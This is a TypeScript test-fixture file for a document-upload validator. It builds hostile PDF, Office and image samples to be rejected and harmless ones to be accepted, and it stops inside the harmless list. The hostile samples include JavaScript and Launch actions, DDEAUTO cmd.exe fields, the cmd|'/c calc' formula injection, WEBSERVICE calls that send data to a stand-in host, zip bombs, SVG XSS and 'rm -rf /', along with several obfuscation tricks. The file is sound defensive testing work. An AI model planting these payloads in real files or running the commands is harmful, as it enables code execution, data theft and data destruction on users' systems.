import type { say } from '@portal/domain/service-messages';
import { COMPOUNDS, compound } from './compounds.ts';
import {
  documentRelations,
  exif,
  exifSegment,
  fieldOf,
  jpeg,
  office,
  officeParts,
  onePage,
  packed,
  pdf,
  pdfOf,
  png,
  stream,
} from './documents.ts';
import { packedLate, packedZeros, ZIPS, zip, zipBombs } from './workbooks.ts';

type Key = Parameters<typeof say>[0];

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const opening = (action: string) => pdfOf(onePage({ catalog: `/OpenAction ${action}` }));
const text = (content: string) => Buffer.from(content);
const withObjects = (...more: (string | Buffer)[]) => pdfOf(onePage({ more }));
const word = (more: Parameters<typeof office>[1]) => office('docx', more);
/** A workbook with a sheet, what its list of sheets and names says, and other parts by their names and kinds. */
const sheet = (
  content: string,
  workbook = '',
  parts: Readonly<Record<string, [kind: string, Part: string]>> = {},
) => {
  const all = { 'worksheets/sheet1.xml': ['spreadsheetml.worksheet', content] as const, ...parts };
  const types = Object.entries(all).map(
    ([name, [kind]]) =>
      `<Override PartName="/xl/${name}" ContentType="application/vnd.openxmlformats-officedocument.${kind}+xml"/>`,
  );
  return office('xlsx', {
    content: `<workbook>${workbook}</workbook>`,
    types: types.join(''),
    more: Object.fromEntries(Object.entries(all).map(([name, [, xml]]) => [`xl/${name}`, xml])),
  });
};
const formula = (text: string) => sheet(`<worksheet><c><f>${text}</f></c></worksheet>`);
const name = (text: string) => sheet('<worksheet/>', `<definedName name="a">${text}</definedName>`);
const table = (xml: string) =>
  sheet('<worksheet/>', '', { 'tables/table1.xml': ['spreadsheetml.table', `<table>${xml}</table>`] });
/** A formula that asks another program. */
const ASKS = "cmd|'/c calc'!A0";

/** What programs choose from: the first is for those that know what it requires, the second for all others. */
const chosen = (first: string, second: string) =>
  `<mc:AlternateContent><mc:Choice Requires="x">${first}</mc:Choice><mc:Fallback>${second}</mc:Fallback></mc:AlternateContent>`;
const runs = (...texts: readonly string[]) =>
  texts.map((each) => `<w:r><w:instrText>${each}</w:instrText></w:r>`).join('');
const fields = (content: string) => fieldOf().replace('<w:fldChar w:fldCharType="end"/>', `${content}$&`);
/** A document in slides, and in one in a document. */
const within = (inner: () => Buffer): [name: string, bytes: () => Buffer][] => [
  ['a.pptx', () => office('pptx', { more: { 'ppt/embeddings/a.docx': inner() } })],
  [
    'a.docx',
    () => word({ more: { 'word/embeddings/a.docx': word({ more: { 'word/embeddings/b.docx': inner() } }) } }),
  ],
];

const linkOf = (action: string) => pdfOf(onePage({ page: `/Annots [<< /Subtype /Link /A ${action} >>]` }));
const linkTo = (address: string) => linkOf(`<< /S /URI /URI ${address} >>`);

/** A document of so many pages, which stand in its list one by one. */
export const longPdf = (pages: number): Buffer =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count ${pages} /Kids [${Array.from({ length: pages }, (_, i) => `${i + 3} 0 R`).join(' ')}] >>`,
    ...Array.from({ length: pages }, () => '<< /Type /Page /Parent 2 0 R >>'),
  ]);

/** Files that are refused as evidence, by what they are: the name they are sent under, and the key of the reason. */
export const HOSTILE: Readonly<Record<string, [name: string, bytes: () => Buffer, reason: Key]>> = {
  // Scripts and actions of PDFs
  'a script at the opening': ['a.pdf', () => opening(SCRIPT), 'pdfActive'],
  'a script with an escaped name': [
    'a.pdf',
    () => opening('<< /S /J#61v#61Script /#4AS (app.alert\\(1\\)) >>'),
    'pdfActive',
  ],
  'a script in packed objects': ['a.pdf', () => withObjects(packed([SCRIPT])), 'pdfActive'],
  'a script with an escaped name in packed objects': [
    'a.pdf',
    () => withObjects(packed(['<< /S /#4aava#53cript >>'])),
    'pdfActive',
  ],
  'a script in objects packed by nothing': [
    'a.pdf',
    () => withObjects(packed([SCRIPT], 20, '')),
    'pdfActive',
  ],
  'packed objects behind a predictor': [
    'a.pdf',
    () => withObjects(packed([SCRIPT], 20, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    'pdfBroken',
  ],
  'packed objects behind two filters': [
    'a.pdf',
    () => withObjects(packed(['<< >>'], 20, '/Filter [/ASCIIHexDecode /FlateDecode]')),
    'pdfBroken',
  ],
  'an object in a comment': [
    'a.pdf',
    () => withObjects('<< >> % 9 0 obj << /S /Launch >> endobj'),
    'pdfActive',
  ],
  'an object in a text': ['a.pdf', () => withObjects('( 9 0 obj << /AA << >> >> endobj )'), 'pdfActive'],
  'an object in a stream': [
    'a.pdf',
    () => withObjects(stream('', '9 0 obj << /AA << /O 3 0 R >> >> endobj')),
    'pdfActive',
  ],
  'an object with comments in its head': [
    'a.pdf',
    () => withObjects(stream('', '9 %\n0 %\nobj << /AA << /O 3 0 R >> >> endobj')),
    'pdfActive',
  ],
  'a launched program': ['a.pdf', () => opening('<< /S /Launch /F (cmd.exe) >>'), 'pdfActive'],
  'a launched program of a link': [
    'a.pdf',
    () => pdfOf(onePage({ page: '/Annots [<< /Subtype /Link /A << /S /La#75nch >> >>]' })),
    'pdfActive',
  ],
  'a page that is opened on the web': ['a.pdf', () => opening('<< /S /URI /URI (http://x) >>'), 'pdfActive'],
  'printing at the opening': ['a.pdf', () => opening('<< /S /Named /N /Print >>'), 'pdfActive'],
  'saving at the opening, by another object': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/OpenAction 6 0 R', more: ['<< /S /Named /N /SaveAs >>'] })),
    'pdfActive',
  ],
  'something at the opening whose name stands elsewhere': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/OpenAction << /S /Named /N 6 0 R >>', more: ['/Print'] })),
    'pdfActive',
  ],
  ...Object.fromEntries(
    [
      '(file:///C:/Windows/System32/calc.exe)',
      '(javascript:alert\\(1\\))',
      '(java\\\nscript:alert)',
      '(\\152avascript:x)',
      '<6A6176 617363726970743A78>',
      '(\\\\\\\\server\\\\share\\\\a.exe)',
      '(//server/share/a.exe)',
      '(a.exe)',
      '(ms-word:ofe|u|https://x/a.docx)',
      '(data:text/html,x)',
      '(\xfe\xff\0h\0t\0t\0p\0:)',
      `(${'\\\n'.repeat(200)}file://x/a.exe)`,
      `(${'\\040'.repeat(400)}file://x/a.exe)`,
      `<${' '.repeat(400)}66696C653A2F2F78>`,
      `<${'20'.repeat(400)}66696C653A2F2F78>`,
      '<zz66696C653A2F2F78>',
      '(fi\tle://x/a.exe)',
      '(%66ile://x/a.exe)',
      '(\xfe\xff\0/\0/\0x\0/\0a)',
      '(docs/a%2Eexe.?x)',
      '(c|/a.txt)',
      '/https:#2F',
      '[(https://x)]',
    ].map((address) => [
      `a link that is no page of the web: ${address}`,
      ['a.pdf', () => linkTo(address), 'pdfActive'],
    ]),
  ),
  'a link whose address stands elsewhere': [
    'a.pdf',
    () =>
      pdfOf(onePage({ page: '/Annots [<< /A << /S /URI /URI 6 0 R >> >>]', more: ['(file:///c:/a.exe)'] })),
    'pdfActive',
  ],
  'a link whose address stands in two places': [
    'a.pdf',
    () =>
      pdfOf(
        onePage({
          page: '/Annots [<< /A << /S /URI /URI 6 0 R >> >>]',
          more: ['(https://x)', stream('', '6 0 obj (file:///c:/a.exe) endobj')],
        }),
      ),
    'pdfActive',
  ],
  ...Object.fromEntries(
    [
      '6%c\n0 obj',
      '6%1\n0 obj',
      '6 0%5 0\nobj',
      '6 0%5\nobj',
      `6 0%${'x'.repeat(2_000)} 5 0\nobj`,
      `6${' '.repeat(40)}0 obj`,
      '6.0 0 obj',
      '6 0. obj',
      '+6 +0 obj',
    ].map((head) => [
      `a link to an object with another of its number: ${head.slice(0, 12)}`,
      [
        'a.pdf',
        () =>
          pdfOf(
            onePage({
              page: '/Annots [<< /A << /S /URI /URI 6 0 R >> >>]',
              more: ['(https://x)', stream('', `\n${head} (file:///c:/a.exe) endobj`)],
            }),
          ),
        'pdfActive',
      ],
    ]),
  ),
  'such an opening': [
    'a.pdf',
    () =>
      pdfOf(
        onePage({
          catalog: '/OpenAction 6 0 R',
          more: ['[3 0 R /Fit]', stream('', '6%c\n0 obj << /S /URI /URI (http://x) >> endobj')],
        }),
      ),
    'pdfActive',
  ],
  ...Object.fromEntries(
    ['9 0 %5\nobj', `9 0 %${'x'.repeat(2_000)}\nobj`].map((head) => [
      `an object behind a comment: ${head.slice(0, 9)}`,
      ['a.pdf', () => withObjects(stream('', `${head} << /AA << >> >> endobj`)), 'pdfActive'],
    ]),
  ),
  'a link in packed objects': [
    'a.pdf',
    () => withObjects(packed(['<< /S /URI /URI (file:///c:/a.exe) >>'])),
    'pdfActive',
  ],
  'a link with two addresses': [
    'a.pdf',
    () => linkOf('<< /S /URI /URI (https://x) /URI (file:///a) >>'),
    'pdfBroken',
  ],
  'links from a folder': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/URI << /Base (file:///c:/) >>' })),
    'pdfActive',
  ],
  'links from a folder that stands elsewhere': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/URI 6 0 R', more: ['<< /Base (file:///c:/) >>'] })),
    'pdfActive',
  ],
  'an opening by another object': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/OpenAction 6 0 R', more: ['<< /S /URI /URI (http://x) >>'] })),
    'pdfActive',
  ],
  'an opening by an object that is there twice': [
    'a.pdf',
    () =>
      pdfOf(
        onePage({
          catalog: '/OpenAction 6 0 R',
          more: ['[3 0 R /Fit]', stream('', '6 0 obj << /S /URI /URI (http://x) >> endobj')],
        }),
      ),
    'pdfActive',
  ],
  'an opening that goes on': [
    'a.pdf',
    () => opening('<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI >> >>'),
    'pdfActive',
  ],
  'an action of a page': ['a.pdf', () => pdfOf(onePage({ page: '/AA << /O << /S /URI >> >>' })), 'pdfActive'],
  'a form that sends': ['a.pdf', () => withObjects('<< /S /SubmitForm /F (http://x) >>'), 'pdfActive'],
  'another file on a server': [
    'a.pdf',
    () => withObjects('<< /S /GoToR /F (\\\\\\\\x\\\\y) >>'),
    'pdfActive',
  ],
  'a form of another format': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/AcroForm << /XFA [] >>' })),
    'pdfActive',
  ],
  'an attached file': ['a.pdf', () => withObjects(stream('/Type /EmbeddedFile', 'MZ')), 'pdfAttachments'],
  'an attached file with an escaped name': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/Names << /Embedded#46iles 6 0 R >>' })),
    'pdfAttachments',
  ],
  'an attached film': ['a.pdf', () => withObjects('<< /Subtype /RichMedia >>'), 'pdfAttachments'],
  'a stream that lies elsewhere': [
    'a.pdf',
    () => withObjects(stream('/F (http://x)', 'x')),
    'pdfAttachments',
  ],
  'an encrypted PDF': ['a.pdf', () => pdfOf(onePage(), '/Encrypt 5 0 R'), 'documentEncrypted'],
  'a PDF of 100,000 pages': ['a.pdf', () => longPdf(100_000), 'pdfTooLong'],
  'a PDF that says that it has 100,000 pages': [
    'a.pdf',
    () =>
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Count 100000 /Kids [2 0 R 2 0 R] >>']),
    'pdfTooLong',
  ],
  'packed objects that unpack to much': [
    'a.pdf',
    () => withObjects(packed([`${' '.repeat(17 * 1024 ** 2)}1`])),
    'pdfBroken',
  ],
  'nothing but brackets': ['a.pdf', () => withObjects('['.repeat(100_000)), 'pdfBroken'],
  'a PDF that is cut off': ['a.pdf', () => pdf().subarray(0, 300), 'pdfBroken'],
  'a PDF without a catalog': ['a.pdf', () => pdfOf(['<< >>']), 'pdfBroken'],
  'a PDF that is a ZIP, too': [
    'a.pdf',
    () => Buffer.concat([pdf(), zip({ 'a.js': 'x' }), text('\n%%EOF')]),
    'pdfBroken',
  ],
  'a PDF behind other bytes': [
    'a.pdf',
    () => Buffer.concat([text('<script>1</script>'), pdf()]),
    'notEvidenceType',
  ],
  // Office
  'macros in a text': ['a.docx', () => word({ more: { 'word/vbaProject.bin': 'x' } }), 'documentMacros'],
  'macros by their relation': [
    'a.docx',
    () => word({ more: { ...documentRelations(['vbaProject', 'a.bin']), 'word/a.bin': 'x' } }),
    'documentMacros',
  ],
  'a document for macros': [
    'a.docx',
    () => word({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'documentMacros',
  ],
  'a workbook with a macro sheet': ['a.xlsx', () => ZIPS.macroSheet, 'documentMacros'],
  'a template': [
    'a.docx',
    () => word({ main: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }),
    'notEvidenceType',
  ],
  'an embedded object': [
    'a.docx',
    () => word({ more: { ...documentRelations(['oleObject', 'a.bin']), 'word/a.bin': 'x' } }),
    'documentObjects',
  ],
  'an object in the old format': [
    'a.pptx',
    () => office('pptx', { more: { 'ppt/embeddings/a.bin': compound({ '\x01Ole10Native': text('MZ') }) } }),
    'documentObjects',
  ],
  'a control': ['a.docx', () => word({ more: documentRelations(['control', 'a.xml']) }), 'documentObjects'],
  'a program among its pictures': [
    'a.docx',
    () => word({ more: { 'word/media/image1.png': 'MZ\x90' } }),
    'documentObjects',
  ],
  'a template from elsewhere': [
    'a.docx',
    () => word({ more: documentRelations(['attachedTemplate', 'https://x/a.dotm', true]) }),
    'documentExternal',
  ],
  'a picture from elsewhere': [
    'a.docx',
    () => word({ more: documentRelations(['image', 'https://x/a.png', true]) }),
    'documentExternal',
  ],
  'a link to a file of the network': [
    'a.docx',
    () => word({ more: documentRelations(['hyperlink', 'file://x/a.exe', true]) }),
    'documentExternal',
  ],
  'a link to a computer of the network': [
    'a.docx',
    () => word({ more: documentRelations(['hyperlink', '%5C%5Cx%5Ca', true]) }),
    'documentExternal',
  ],
  'a part in another format': [
    'a.docx',
    () => word({ more: { ...documentRelations(['aFChunk', 'a.rtf']), 'word/a.rtf': '{\\rtf' } }),
    'documentExternal',
  ],
  'a field that asks a program': [
    'a.docx',
    () => word({ content: fieldOf('DDEAUTO c:\\cmd.exe') }),
    'documentExternal',
  ],
  'such a field in pieces': [
    'a.docx',
    () => word({ content: fieldOf('D', 'DE', 'AUTO c:\\cmd.exe') }),
    'documentExternal',
  ],
  'such a field in numbers': [
    'a.docx',
    () => word({ content: fieldOf('QUOTE 68 68 69') }),
    'documentExternal',
  ],
  'such a field in one tag': [
    'a.docx',
    () => word({ content: '<w:document xmlns:w="w"><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:document>' }),
    'documentExternal',
  ],
  'such a field in a document whose type is spelled in another way': [
    'a.docx',
    () =>
      word({
        main: 'application/vnd.openxmlformats-officedocument.WordprocessingML.document.main+xml',
        content: fieldOf('DDEAUTO c:\\cmd.exe'),
      }),
    'documentExternal',
  ],
  'such a field with a tag in it': [
    'a.docx',
    () => word({ content: fieldOf('DDE<ign:x/>AUTO c:\\cmd.exe') }),
    'documentBroken',
  ],
  'such a field in what looks like a link': [
    'a.docx',
    () => word({ content: fieldOf('HYPERLINK "https://', 'DDEAUTO c:\\cmd.exe', '"') }),
    'documentExternal',
  ],
  'such a field between what does not end it': [
    'a.docx',
    () =>
      word({
        content:
          '<w:document xmlns:w="w"><w:instrText>DD</w:instrText><ign:fldChar type="end"/><w:instrText>EAUTO c:\\cmd.exe</w:instrText></w:document>',
      }),
    'documentExternal',
  ],
  ...Object.fromEntries(
    [
      chosen(runs('DDEAUTO c:\\cmd.exe'), runs('PAGE')),
      chosen(runs('PAGE'), runs('DDEAUTO c:\\cmd.exe')),
      chosen('<w:fldSimple w:instr="INCLUDEPICTURE x"/>', ''),
      chosen('', '<w:fldSimple w:instr="INCLUDEPICTURE x"/>'),
      `${chosen(runs('x'), runs('DD'))}${runs('EAUTO c:\\cmd.exe')}`,
      `${runs('DD')}<w:r><w:delInstrText>x</w:delInstrText></w:r>${runs('EAUTO c:\\cmd.exe')}`,
    ].map((content) => [
      `such a field of which programs read another part: ${content}`,
      ['a.docx', () => word({ content: fields(content) }), 'documentExternal'],
    ]),
  ),
  ...Object.fromEntries(
    [
      `${runs('DD')}${chosen(runs('x'), runs('EAUTO c:\\cmd.exe'))}`,
      `${chosen(runs('x'), runs('DD'))}${chosen(runs('y'), runs('EAUTO c:\\cmd.exe'))}`,
      `${runs('DD')}${chosen(`<w:fldChar/>${runs('x')}`, '')}${runs('EAUTO c:\\cmd.exe')}`,
      `${runs('DD')}<ign:x>${runs('x')}</ign:x>${runs('EAUTO c:\\cmd.exe')}`,
      `${runs('DD')}<ign:instrText>x</ign:instrText>${runs('EAUTO c:\\cmd.exe')}`,
    ].map((content) => [
      `a field of which programs read different texts: ${content}`,
      ['a.docx', () => word({ content: fields(content) }), 'documentBroken'],
    ]),
  ),
  ...Object.fromEntries(
    [chosen(`<f>${ASKS}</f>`, '<f>1</f>'), chosen('<f>1</f>', `<f>${ASKS}</f>`)].map((content) => [
      `a formula that asks a program, of which programs read another part: ${content}`,
      ['a.xlsx', () => sheet(`<worksheet><c>${content}</c></worksheet>`), 'documentExternal'],
    ]),
  ),
  'such a formula in a part of the other': [
    'a.xlsx',
    () => formula(`cmd|${chosen('1', '')}'/c calc'!A0`),
    'documentBroken',
  ],
  'such a formula as a sheet that programs may leave out': [
    'a.xlsx',
    () =>
      sheet(
        "<worksheet><c><f>'cmd|calc'!A0</f></c></worksheet>",
        chosen('<sheets><sheet name="cmd|calc"/></sheets>', ''),
      ),
    'documentExternal',
  ],
  'an object that programs may leave out': [
    'a.docx',
    () =>
      word({
        content: fields(chosen('', '<w:object><o:OLEObject r:id="r0"/></w:object>')),
        more: { ...documentRelations(['oleObject', 'a.bin']), 'word/a.bin': 'x' },
      }),
    'documentObjects',
  ],
  'a link that programs may leave out': [
    'a.docx',
    () =>
      word({
        content: fields(chosen('<w:hyperlink r:id="r0"/>', '')),
        more: documentRelations(['hyperlink', 'file://x/a.exe', true]),
      }),
    'documentExternal',
  ],
  'a formula that asks a program': ['a.xlsx', () => formula(ASKS), 'documentExternal'],
  'such a formula between sheets whose names look like texts': [
    'a.xlsx',
    () => formula(`'"'!A1+${ASKS}+'"'!A1`),
    'documentExternal',
  ],
  'such a formula between columns whose names look like sheets': [
    'a.xlsx',
    () => formula(`T['#]+'"'!A1+${ASKS}+'"'!A1`),
    'documentExternal',
  ],
  'such a formula with brackets that do not close': [
    'a.xlsx',
    () => formula(`T[+${ASKS}`),
    'documentExternal',
  ],
  'such a formula as one name': ['a.xlsx', () => formula("'cmd|/c calc'!A0"), 'documentExternal'],
  'such a formula as a sheet that cannot be': [
    'a.xlsx',
    () =>
      sheet("<worksheet><c><f>'cmd|/c'!A0</f></c></worksheet>", '<sheets><sheet name="cmd|/c"/></sheets>'),
    'documentExternal',
  ],
  ...Object.fromEntries(
    [
      '<z:sheet name="cmd|calc"/>',
      '<sheets><z:sheet name="cmd|calc"/></sheets>',
      '<sheets><sheet xmlns="x" name="cmd|calc"/></sheets>',
      '<z:x xmlns="x"><sheets><sheet name="cmd|calc"/></sheets></z:x>',
    ].map((sheets) => [
      `such a formula as what is no sheet: ${sheets}`,
      [
        'a.xlsx',
        () => sheet("<worksheet><c><f>'cmd|calc'!A0</f></c></worksheet>", sheets),
        'documentExternal',
      ],
    ]),
  ),
  'such a formula as a sheet of another part': [
    'a.xlsx',
    () =>
      sheet('<workbook><sheets><sheet name="cmd|calc"/></sheets><c><f>\'cmd|calc\'!A0</f></c></workbook>'),
    'documentExternal',
  ],
  'such a formula behind a name': ['a.xlsx', () => name(ASKS), 'documentExternal'],
  'such a formula in a part whose type is spelled in another way': [
    'a.xlsx',
    () => sheet('<worksheet/>', '', { 'b.xml': ['SpreadsheetML.Worksheet', `<c><f>${ASKS}</f></c>`] }),
    'documentExternal',
  ],
  'such a formula with a tag in it': ['a.xlsx', () => formula("cmd|<ign:x/>'/c calc'!A0"), 'documentBroken'],
  'such a formula with another in it': [
    'a.xlsx',
    () => formula("cmd|<f>1</f>'/c calc'!A0"),
    'documentBroken',
  ],
  'such a formula behind another in it': ['a.xlsx', () => formula(`<f>1</f>${ASKS}`), 'documentExternal'],
  'such a formula of what may be typed': [
    'a.xlsx',
    () =>
      sheet(
        `<worksheet><dataValidation><formula1>1</formula1><formula2>${ASKS}</formula2></dataValidation></worksheet>`,
      ),
    'documentExternal',
  ],
  'such a formula of what may be typed, as newer programs write it': [
    'a.xlsx',
    () =>
      sheet(
        `<worksheet><x14:dataValidation><x14:formula1><xm:f>${ASKS}</xm:f></x14:formula1></x14:dataValidation></worksheet>`,
      ),
    'documentExternal',
  ],
  'such a formula of a colour': [
    'a.xlsx',
    () => sheet(`<worksheet><cfRule><formula>${ASKS}</formula></cfRule></worksheet>`),
    'documentExternal',
  ],
  'such a formula of a scale': [
    'a.xlsx',
    () => sheet(`<worksheet><cfvo type="formula" val="${ASKS}"/></worksheet>`),
    'documentExternal',
  ],
  'such a formula of a column': [
    'a.xlsx',
    () => table(`<calculatedColumnFormula>${ASKS}</calculatedColumnFormula>`),
    'documentExternal',
  ],
  'such a formula of a total': [
    'a.xlsx',
    () => table(`<totalsRowFormula>${ASKS}</totalsRowFormula>`),
    'documentExternal',
  ],
  'such a formula of a pivot table': [
    'a.xlsx',
    () =>
      sheet('<worksheet/>', '', {
        'pivot.xml': ['spreadsheetml.pivotCacheDefinition', `<cacheField formula="${ASKS}"/>`],
      }),
    'documentExternal',
  ],
  'such a formula of a chart': [
    'a.xlsx',
    () =>
      sheet('<worksheet/>', '', {
        'chart1.xml': ['drawingml.chart', `<c:chart><c:f>${ASKS}</c:f></c:chart>`],
      }),
    'documentExternal',
  ],
  ...Object.fromEntries(
    [
      '_xlfn.WEBSERVICE("https://x/"&amp;A1)',
      'IF(A1,_xlfn.IMAGE("https://x/a.png"),1)',
      'RTD("a.b",,"c")',
      'DDE("soffice";"a";"b")',
      '_xlfn.STOCKHISTORY("MSFT",A1)',
      '_xlfn.MAP(A1,_xleta.WEBSERVICE)',
      'REGISTER.ID("a.dll","b")',
      'CALL("urlmon","a","J")',
      '_xlfn.IMPORTTEXT("https://x")',
      '_xlfn.IMPORTCSV("https://x")',
      'HYPERLINK("file:///c:/a.exe","x")',
      'HYPERLINK( "\\\\x\\a"&amp;A1)',
      'HYPERLINK("[\\\\x\\a.xlsx]B!A1")',
      "cmd_x007C_'/c calc'!A0",
      '_xlfn.TRANSLATE(A1)',
    ].flatMap((text) => [
      [`a formula that asks elsewhere: ${text}`, ['a.xlsx', () => formula(text), 'documentExternal']],
      [`a name that asks elsewhere: ${text}`, ['a.xlsx', () => name(text), 'documentExternal']],
    ]),
  ),
  'another workbook': [
    'a.xlsx',
    () =>
      office('xlsx', {
        content: '<workbook/>',
        more: {
          'xl/_rels/workbook.xml.rels': documentRelations(['externalLink', 'a.xml'])[
            'word/_rels/document.xml.rels'
          ],
        },
      }),
    'documentExternal',
  ],
  'a formula that asks a program, in a table of slides': [
    'a.pptx',
    () => office('pptx', { more: { 'ppt/embeddings/a.xlsx': formula(ASKS) } }),
    'documentExternal',
  ],
  'such a formula in a document in a document': [
    'a.docx',
    () =>
      word({
        more: {
          'word/embeddings/a.docx': word({ more: { 'word/embeddings/a.xlsx': formula(ASKS) } }),
        },
      }),
    'documentExternal',
  ],
  ...Object.fromEntries(
    (
      [
        ['a template from elsewhere', documentRelations(['attachedTemplate', 'https://x/a.dotm', true])],
        ['a picture from elsewhere', documentRelations(['image', 'https://x/a.png', true])],
        ['a link to a file of the network', documentRelations(['hyperlink', 'file://x/a.exe', true])],
        ['a part in another format', documentRelations(['aFChunk', 'a.rtf'])],
      ] as const
    ).flatMap(([what, more]) =>
      within(() => word({ more })).map(([name, bytes]) => [
        `${what}, in a document in ${name}`,
        [name, bytes, 'documentExternal'],
      ]),
    ),
  ),
  ...Object.fromEntries(
    within(() => word({ content: fieldOf('DDEAUTO c:\\cmd.exe') })).map(([name, bytes]) => [
      `a field that asks a program, in a document in ${name}`,
      [name, bytes, 'documentExternal'],
    ]),
  ),
  ...Object.fromEntries(
    within(() => word({ more: { 'word/media/image1.png': 'MZ\x90' } })).map(([name, bytes]) => [
      `a program among the pictures of a document in ${name}`,
      [name, bytes, 'documentObjects'],
    ]),
  ),
  'another workbook of a table in a text': [
    'a.docx',
    () =>
      word({
        more: {
          'word/embeddings/a.xlsx': office('xlsx', {
            content: '<workbook/>',
            more: {
              'xl/_rels/workbook.xml.rels': documentRelations(['externalLink', 'a.xml'])[
                'word/_rels/document.xml.rels'
              ],
            },
          }),
        },
      }),
    'documentExternal',
  ],
  'a program that is unpacked late': [
    'a.docx',
    () => zip({ ...officeParts('docx'), 'word/media/a.png': packedLate(text('MZ\x90')) }),
    'documentObjects',
  ],
  'documents in documents, deeper than anybody looks': [
    'a.docx',
    () =>
      [0, 1, 2, 3].reduce<Buffer>((inner) => word({ more: { 'word/embeddings/a.docx': inner } }), word({})),
    'documentObjects',
  ],
  'an encrypted document': ['a.docx', () => compound({ EncryptedPackage: text('x') }), 'documentEncrypted'],
  'an old workbook': ['a.xlsx', () => COMPOUNDS.plain, 'notEvidenceType'],
  'an ordinary ZIP': ['a.docx', () => zip({ 'a.js': 'x' }), 'notEvidenceType'],
  'a ZIP behind a picture': [
    'a.docx',
    () => Buffer.concat([text('GIF89a'), office('docx')]),
    'notEvidenceType',
  ],
  'a document that is cut off': ['a.docx', () => office('docx').subarray(0, 200), 'documentBroken'],
  'a document with a document type': [
    'a.docx',
    () => word({ content: '<!DOCTYPE x [<!ENTITY a "b">]><w/>' }),
    'documentBroken',
  ],
  'a ZIP bomb': ['a.xlsx', () => zipBombs().largeSheets, 'documentBroken'],
  'a bomb of a text': [
    'a.docx',
    () => zip(Object.entries({ ...officeParts('docx'), 'word/document.xml': packedZeros(64 * 1024 ** 2) })),
    'documentBroken',
  ],
  // Pictures
  'pixels that fill the memory': [
    'a.png',
    () => png([], { said: { width: 29_000, height: 29_000 } }),
    'pictureTooLarge',
  ],
  'a JPEG of as many': ['a.jpg', () => jpeg([], { pixels: [60_000, 60_000] }), 'pictureTooLarge'],
  'more pixels than it says': [
    'a.png',
    () => png([], { width: 500, height: 500, said: { width: 8, height: 8 } }),
    'pictureBroken',
  ],
  'fewer pixels than it says': [
    'a.png',
    () => png([], { said: { width: 800, height: 800 } }),
    'pictureBroken',
  ],
  'a picture that is cut off': ['a.png', () => png().subarray(0, 60), 'pictureBroken'],
  'a JPEG that is cut off': ['a.jpg', () => jpeg().subarray(0, 150), 'pictureBroken'],
  'SVG as PNG': [
    'a.png',
    () => text('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    'notEvidenceType',
  ],
  'SVG as text': ['a.txt', () => text('\n<svg onload="alert(1)"/>'), 'notEvidenceType'],
  'a page of the web as text': ['a.txt', () => text('<!doctype html><script>1</script>'), 'notEvidenceType'],
  'a script as text': ['a.txt', () => text('#!/bin/sh\nrm -rf /'), 'notEvidenceType'],
  // Others
  'a program as PDF': ['a.pdf', () => Buffer.from('MZ\x90\0\x03\0', 'latin1'), 'notEvidenceType'],
  'a program of Linux as text': ['a.txt', () => Buffer.from('\x7fELF\x02\x01', 'latin1'), 'notEvidenceType'],
  'text as a picture': ['a.png', () => text('Nothing to see'), 'notEvidenceType'],
  'an empty file': ['a.txt', () => Buffer.alloc(0), 'documentEmpty'],
  'an empty PDF': ['a.pdf', () => Buffer.alloc(0), 'documentEmpty'],
  'a GIF': ['a.png', () => Buffer.from('GIF89a\x01\0\x01\0', 'latin1'), 'notEvidenceType'],
};

/** Files that are accepted and harmless: what they are taken for, and a text that must not be in what is stored. */
export const HARMLESS: Readonly<
  Record<string, [name: string, bytes: () => Buffer, type: string, gone?: string]>
> = {
  'a PDF': ['a.pdf', () => pdf(), 'pdf'],
  'a PDF that opens at a page': ['a.pdf', () => opening('[3 0 R /Fit]'), 'pdf'],
  'a PDF that opens at a page by another object': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/OpenAction 6 0 R', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] })),
    'pdf',
  ],
  'a PDF with packed objects': ['a.pdf', () => withObjects(packed(['<< /Title (x) >>', '[1 2 3]'])), 'pdf'],
  'a PDF with a link': [
    'a.pdf',
    () => pdfOf(onePage({ page: '/Annots [<< /A << /S /URI /URI (https://x) >> >>]' })),
    'pdf',
  ],
  ...Object.fromEntries(
    [
      '(http://x/a\\(b\\).pdf)',
      '(\n HTTPS://doi.org/10.1000/182)',
      '(mailto:a@hospital.example)',
      '(tel:+1)',
      '(www.hospital.example)',
      '<68747470733A2F2F78>',
      '(vendor.com/ifu)',
      '(info@vendor.com)',
      '(Instructions%20for%20use.pdf)',
      '(../docs/ifu.pdf?page=1:2)',
      '(ftp://vendor.com/ifu.pdf)',
      '(doi:10.1000/182)',
      '(  \\\n https://x)',
      '<68 74 74 70 73 3a 2>',
      '( )',
      '()',
      'null',
    ].map((address) => [`a PDF with a link to ${address}`, ['a.pdf', () => linkTo(address), 'pdf']]),
  ),
  'a PDF with a link whose address stands elsewhere': [
    'a.pdf',
    () =>
      pdfOf(
        onePage({ page: '/Annots [<< /A << /S /URI /URI 20 0 R >> >>]', more: [packed(['(https://x)'])] }),
      ),
    'pdf',
  ],
  'a PDF with such a link and an opening by another object, with texts that look like objects': [
    'a.pdf',
    () =>
      pdfOf(
        onePage({
          catalog: '/OpenAction 9 0 R',
          page: '/Annots [<< /A << /S /URI /URI 6 0 R >> >>]',
          more: [
            '(https://x)',
            '<< >> % the last',
            '<< /Title (1. objective: 50 % objectives, 5 more) >>',
            '[3 0 R /Fit]',
          ],
        }),
      ),
    'pdf',
  ],
  'a PDF with links from a page of the web': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/URI << /Base (https://x/) >>' })),
    'pdf',
  ],
  'a PDF with links from a page of the web that stands elsewhere': [
    'a.pdf',
    () => pdfOf(onePage({ catalog: '/URI 6 0 R', more: ['<< /Base (https://x/) >>'] })),
    'pdf',
  ],
